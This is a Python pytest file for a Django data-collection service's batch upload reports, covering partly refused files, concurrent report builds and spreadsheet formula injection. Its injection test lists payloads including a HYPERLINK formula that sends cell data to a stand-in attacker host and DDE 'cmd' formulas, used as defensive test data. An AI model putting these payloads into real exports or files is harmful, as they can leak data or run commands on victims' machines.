"""Batch reports: files refused part-way, formula injection, concurrent builds (issue 10,
items 11, 16, 18). Real files through the console, the API and `credit import`."""

from __future__ import annotations

import csv
import io
import threading
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import connection
from openpyxl import load_workbook

from credit.collection import services
from credit.collection.models import Batch, BatchState
from credit.core.actors import Actor

from .samples import SCJG_USCC, penalty_row, write_csv

pytestmark = pytest.mark.django_db

HEADER = list(penalty_row(0))
FACT = "经查，当事人销售的产品经抽样检验不合格。" * 18  # ~360 characters, ~1 KB in UTF-8


def _line(row: dict) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([row.get(h, "") for h in HEADER])
    return buffer.getvalue()


def nul_on_row_2(folder: Path) -> Path:
    path = folder / "nul.csv"
    line = _line(penalty_row(1)).replace("张三", "张\x00三")
    path.write_bytes((_line(dict(zip(HEADER, HEADER, strict=True))) + line).encode("gb18030"))
    return path


def encoding_change_at_row_1201(folder: Path) -> Path:
    """Rows 2–1,200 in UTF-8 (more than the 1 MB the encoding is detected from), row 1,201
    on in GB18030, as when two exports are pasted together."""
    path = folder / "mixed.csv"
    head = _line(dict(zip(HEADER, HEADER, strict=True)))
    utf8 = "".join(_line(penalty_row(n, **{"违法事实": FACT})) for n in range(1, 1200))
    gbk = "".join(_line(penalty_row(n)) for n in range(1200, 1203))
    path.write_bytes((head + utf8).encode("utf-8") + gbk.encode("gb18030"))
    assert len((head + utf8).encode("utf-8")) > 1 << 20
    return path


def field_over_1_mb(folder: Path) -> Path:
    path = folder / "huge.csv"
    rows = [penalty_row(1), penalty_row(2, **{"违法事实": "事" * ((1 << 20) + 100)})]
    return write_csv(path, rows)


FILES = {
    "nul": (nul_on_row_2, 0, "空字符"),
    "encoding": (encoding_change_at_row_1201, 1199, "编码不一致"),
    "huge_field": (field_over_1_mb, 1, "字符的上限"),
}


@pytest.fixture(params=sorted(FILES))
def refused_file(request, tmp_path):
    make, rows_before, words = FILES[request.param]
    return make(tmp_path), rows_before, words


def _check_csv_report(text: str, rows_before: int, words: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][-4:] == ["结果", "说明", "报送工作日", "是否超期"]
    body = rows[1:]
    # The text decoder reads ahead in blocks of a few KB, so a bad byte stops reading a
    # few rows before the row it is on (the message says "near row N").
    assert rows_before - 8 <= len(body) - 1 <= rows_before
    assert all(r[-4] == "未处理" for r in body[:-1])
    assert body[-1][-4] == "错误" and words in body[-1][-3]


def test_console_report_of_a_file_refused_part_way(
    client, operator_user, user_password, catalog, refused_file
):
    path, rows_before, words = refused_file
    assert client.login(username=operator_user.username, password=user_password)
    with open(path, "rb") as fh:
        client.post("/console/upload/", {"dataset": "penalty", "policy": "reject_all", "file": fh})
    batch = Batch.objects.get()
    assert batch.state == BatchState.REJECTED
    response = client.get(f"/console/batches/{batch.public_id}/report.csv")
    assert response.status_code == 200
    _check_csv_report(b"".join(response.streaming_content).decode("utf-8-sig"), rows_before, words)
    response = client.get(f"/console/batches/{batch.public_id}/report.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    last = list(sheet.iter_rows(values_only=True))[-1]
    assert last[-4] == "错误" and words in last[-3]
    assert rows_before - 8 <= sheet.max_row - 2 <= rows_before


def test_api_report_of_a_file_refused_part_way(client, api_client_scjg, catalog, refused_file):
    path, rows_before, words = refused_file
    bearer = {"HTTP_AUTHORIZATION": f"Bearer {api_client_scjg[1]}"}
    with open(path, "rb") as fh:
        answer = client.post("/api/v1/batches", {"file": fh, "dataset": "penalty"}, **bearer)
    assert answer.status_code == 202, answer.content
    batch_id = answer.json()["id"]
    assert client.get(f"/api/v1/batches/{batch_id}", **bearer).json()["state"] == "rejected"
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/api/v1/batches/{batch_id}/report?format={fmt}", **bearer)
        assert response.status_code == 200
        content = b"".join(response.streaming_content)
        if fmt == "csv":
            _check_csv_report(content.decode("utf-8-sig"), rows_before, words)
        else:
            assert rows_before - 8 <= load_workbook(io.BytesIO(content)).active.max_row - 2


def test_cli_exits_2_with_the_reason_and_writes_the_report(
    scjg, catalog, refused_file, tmp_path, capsys
):
    path, rows_before, words = refused_file
    report = tmp_path / "out" / "报告.csv"
    with pytest.raises(SystemExit) as exc:
        call_command(
            "import", str(path), "--dataset", "penalty", "--department", SCJG_USCC,
            "--report", str(report),
        )  # fmt: skip
    assert exc.value.code == 2
    assert words in capsys.readouterr().err
    _check_csv_report(report.read_text(encoding="utf-8-sig"), rows_before, words)


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_report_cells_are_never_formulas(run_file, scjg, tmp_path):
    rows = [
        penalty_row(n, **{"违法事实": text, "法定代表人": text[:40]})
        for n, text in enumerate(INJECTIONS, start=1)
    ]
    rows.append(penalty_row(99, **{"罚款金额（万元）": "-1.5"}))  # refused: must be > 0
    path = write_csv(tmp_path / "inject.csv", rows)
    batch = run_file(scjg, path, policy="reject_failed_rows")
    assert batch.state == BatchState.DONE, batch.message
    assert batch.new_rows == len(INJECTIONS), list(batch.errors.values_list("row", "message"))

    built = services.build_report(Actor.system(), batch, "xlsx")
    sheet = load_workbook(built).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    for text in INJECTIONS:
        # Stored as text, exactly as sent (openpyxl's XML reader gives a CR back as LF, or
        # as CR with lxml installed, as WeasyPrint's dependencies bring), and flagged so
        # Excel keeps it text when edited.
        assert text in texts or text.replace("\r", "\n") in texts
    flagged = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+"))]
    assert flagged and all(c.data_type == "s" and c.quotePrefix for c in flagged)
    assert "-1.5" in texts

    built = services.build_report(Actor.system(), batch, "csv")
    text = built.read_bytes().decode("utf-8-sig")  # not read_text: it would turn CR into LF
    cells = [v for row in csv.reader(io.StringIO(text, newline="")) for v in row]
    dangerous = [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    for text in INJECTIONS:
        assert "'" + text in cells
    assert "'-1.5" in cells


# Committed data, so the builder threads see the batch; serialized_rollback restores the
# database for the tests after it, as the suite's other transactional tests do.
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_concurrent_builds_of_the_same_report(run_file, scjg, tmp_path):
    path = write_csv(tmp_path / "p.csv", [penalty_row(n) for n in range(1, 200)])
    batch = run_file(scjg, path)
    assert batch.state == BatchState.DONE
    failures: list[BaseException] = []
    whole: list[str] = []

    def build(fmt: str, start: threading.Barrier) -> None:
        try:
            start.wait()
            built = services.build_report(Actor.system(), batch, fmt)
            # What a download then streams must be a whole report, not a half-written one.
            if fmt == "xlsx":
                rows = load_workbook(built).active.max_row
            else:
                rows = len(built.read_bytes().decode("utf-8-sig").splitlines())
            whole.append(f"{fmt}:{rows}")
        except BaseException as exc:  # noqa: BLE001 - collected for the assertion below
            failures.append(exc)
        finally:
            connection.close()

    for _round in range(3):
        # Both reports missing, as after the batch is finished again: every request builds.
        for fmt in ("xlsx", "csv"):
            services.report_path(batch, fmt).unlink(missing_ok=True)
        start = threading.Barrier(6)
        threads = [threading.Thread(target=build, args=(fmt, start)) for fmt in ("xlsx", "csv") * 3]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert failures == []
    assert sorted(set(whole)) == ["csv:200", "xlsx:200"] and len(whole) == 18
    leftovers = [p.name for p in services.report_path(batch, "csv").parent.iterdir()]
    assert not [name for name in leftovers if name.endswith(".part")]
